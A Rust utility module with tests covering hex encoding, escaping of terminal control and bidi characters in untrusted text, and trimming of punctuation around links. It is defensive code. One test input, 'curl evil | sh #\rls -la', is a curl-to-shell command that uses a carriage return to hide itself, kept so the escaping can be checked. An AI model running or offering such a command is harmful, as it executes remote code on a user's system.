//! Hex encoding; what a terminal gets of a text; what stands around one.

use zeroize::Zeroizing;

/// Lower-case hex digits. The buffer has its final size from the start, so that wiping the text wipes every copy.
#[must_use]
pub fn hex(bytes: &[u8]) -> String {
    let mut text = String::with_capacity(2 * bytes.len());
    let digits = bytes.iter().flat_map(|byte| [byte >> 4, byte & 15]);
    text.extend(digits.map(|digit| char::from(b"0123456789abcdef"[usize::from(digit)])));
    text
}

/// Reads what [`hex`] writes, upper case too; `None` for anything but two digits for each of the `N` bytes.
#[must_use]
pub fn unhex<const N: usize>(text: &str) -> Option<[u8; N]> {
    let (pairs, rest) = text.as_bytes().as_chunks::<2>();
    if pairs.len() != N || !rest.is_empty() {
        return None;
    }
    let mut bytes = [0; N];
    for (byte, pair) in bytes.iter_mut().zip(pairs) {
        *byte = two_digits(*pair)?;
    }
    Some(bytes)
}

/// Reads what [`hex`] writes, upper case too, of whatever length; `None` for anything but pairs of digits.
#[must_use]
pub fn unhex_all(text: &str) -> Option<Vec<u8>> {
    let (pairs, rest) = text.as_bytes().as_chunks::<2>();
    if !rest.is_empty() {
        return None;
    }
    pairs.iter().copied().map(two_digits).collect()
}

fn two_digits(pair: [u8; 2]) -> Option<u8> {
    let [high, low] = pair.map(|digit| char::from(digit).to_digit(16));
    u8::try_from((high? << 4) | low?).ok()
}

/// Untrusted text, safe to show in a message: one line, and whatever a terminal would obey as its escape (`\n`, `\u{1b}`).
#[must_use]
pub fn printable(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    text.chars().for_each(|c| show(c, &mut shown));
    shown
}

/// Text with its lines as a terminal may get it: line breaks and tabs stay, everything else that a terminal would obey becomes
/// its escape. Whoever wrote the text must not write to the reader's terminal.
#[must_use]
pub fn for_terminal(text: &str) -> Zeroizing<String> {
    // The longest escape of a byte: no part of a value is left behind where the text grew.
    let mut shown = Zeroizing::new(String::with_capacity(6 * text.len()));
    let mut rest = text.chars().peekable();
    while let Some(c) = rest.next() {
        // Alone, a CR hides what stands before it.
        let ends_line = c == '\n' || (c == '\r' && rest.peek() == Some(&'\n'));
        if ends_line || c == '\t' {
            shown.push(c);
        } else {
            show(c, &mut shown);
        }
    }
    shown
}

/// Whether a terminal, or a header, would obey a character in place of showing it: C0, DEL, C1, what turns the direction of
/// writing (Unicode's `Bidi_Control`), and separators of lines and paragraphs.
pub(super) fn is_obeyed(c: char) -> bool {
    let turns = matches!(
        c,
        '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
    );
    c.is_control() || turns || matches!(c, '\u{2028}' | '\u{2029}')
}

/// Appends a character as it is, or as its escape when it [`is_obeyed`].
fn show(c: char, shown: &mut String) {
    if is_obeyed(c) {
        shown.extend(c.escape_default());
    } else {
        shown.push(c);
    }
}

/// How a text begins or ends with a blank, a line end or a control character, for messages; `None` when it does neither. The
/// text itself is not in it.
#[must_use]
pub fn stray_end(text: &str) -> Option<String> {
    let stray = |c: &char| c.is_whitespace() || c.is_control();
    let (verb, c) = match (text.chars().next_back().filter(stray), text.chars().next().filter(stray)) {
        (Some(last), _) => ("ends", last),
        (None, Some(first)) => ("begins", first),
        (None, None) => return None,
    };
    Some(if c == ' ' {
        format!("{verb} with a blank")
    } else {
        format!("{verb} with `{}`", c.escape_default())
    })
}

/// What to do about a [`stray_end`].
pub const STRAY_END_HINT: &str =
    "leave it out; a file with the line ends of Windows brings `\\r`, `echo` brings `\\n`";

/// A link or a key without what stands around it in a sentence or an email: quotes, brackets, full stops, blanks, also as `%20`.
#[must_use]
pub fn without_punctuation(text: &str) -> &str {
    const AROUND: &str = "<>()[]{}\"'`.,;:!?*|«»‘’“”„‚…。，、」』）";
    let around = |c: char| c.is_whitespace() || AROUND.contains(c);
    let mut text = text.trim_matches(around);
    // As some programs write them into addresses; a full stop is never written so.
    while let Some((rest, code)) = text.rsplit_once('%')
        && unhex::<1>(code).is_some_and(|[byte]| byte != b'.' && around(char::from(byte)))
    {
        text = rest.trim_end_matches(around);
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hex_is_read_as_written() {
        assert_eq!(hex(&[0x00, 0x7f, 0xa5, 0xff]), "007fa5ff");
        assert_eq!(hex(&[]), "");
        assert_eq!(unhex("007fa5ff"), Some([0x00, 0x7f, 0xa5, 0xff]));
        assert_eq!(unhex("007FA5FF"), Some([0x00, 0x7f, 0xa5, 0xff]));
        for bad in ["", "0", "007fa5f", "007fa5ff0", "007fa5ff00", "007fa5fg", "+07fa5ff", "00 7fa5f", "éééé"]
        {
            assert_eq!(unhex::<4>(bad), None, "{bad}");
        }
        assert_eq!(unhex_all("007fA5ff"), Some(vec![0x00, 0x7f, 0xa5, 0xff]));
        assert_eq!(unhex_all(""), Some(Vec::new()));
        for bad in ["0", "007fa5f", "007fa5fg", "+07fa5ff", "00 7fa5f", "éé"] {
            assert_eq!(unhex_all(bad), None, "{bad}");
        }
    }

    #[test]
    fn what_a_terminal_would_obey_becomes_visible() {
        assert_eq!(printable("a\u{1b}[2Jb\n\u{9b}c\0\té"), "a\\u{1b}[2Jb\\n\\u{9b}c\\u{0}\\té");
        let obeyed = "\u{1b}]0;t\u{7}\u{9b}2J\u{7f}\u{202e}\u{2066}\u{200f}\u{61c}\u{2028}\u{2029}\u{85}";
        for shown in [printable(obeyed), for_terminal(obeyed).to_string()] {
            assert!(shown.is_ascii() && !shown.contains(char::is_control), "{shown}");
        }
        let lines = "one\ttwo\r\nthree\n";
        assert_eq!(for_terminal(lines).as_str(), lines);
        assert_eq!(for_terminal("curl evil | sh #\rls -la  ").as_str(), "curl evil | sh #\\rls -la  ");
        assert_eq!(for_terminal("\r\r\n").as_str(), "\\r\r\n");
        let written = "שלום 👩\u{200d}💻";
        assert_eq!(for_terminal(written).as_str(), written);
    }

    #[test]
    fn strays_are_named() {
        for (text, named) in [
            ("", None),
            ("a b", None),
            ("a\r", Some("ends with `\\r`")),
            ("a\n", Some("ends with `\\n`")),
            ("a ", Some("ends with a blank")),
            (" a", Some("begins with a blank")),
            ("\ta", Some("begins with `\\t`")),
            ("a\u{a0}", Some("ends with `\\u{a0}`")),
            ("a\0", Some("ends with `\\u{0}`")),
        ] {
            assert_eq!(stray_end(text).as_deref(), named, "{text:?}");
        }
    }

    #[test]
    fn sentences_leave_links_whole() {
        const KEY: &str = "153l8vbwqx5taskp92pf05uvgjefvu9";
        for around in [
            "KEY",
            "KEY.",
            "KEY)",
            "KEY,",
            "<KEY>",
            "KEY%20",
            "(KEY).",
            "“KEY”",
            "KEY%29.",
            "KEY%0D%0A",
            " KEY\r\n",
            "**KEY**",
            "[KEY]:",
            "KEY%3E.",
            "KEY。",
        ] {
            assert_eq!(without_punctuation(&around.replace("KEY", KEY)), KEY, "{around}");
        }
        for kept in ["KEY%2e%2fx", "KEY%41", "KEY%2e", "KEY-", "_KEY", "KEY/"] {
            assert_eq!(without_punctuation(kept), kept);
        }
    }
}
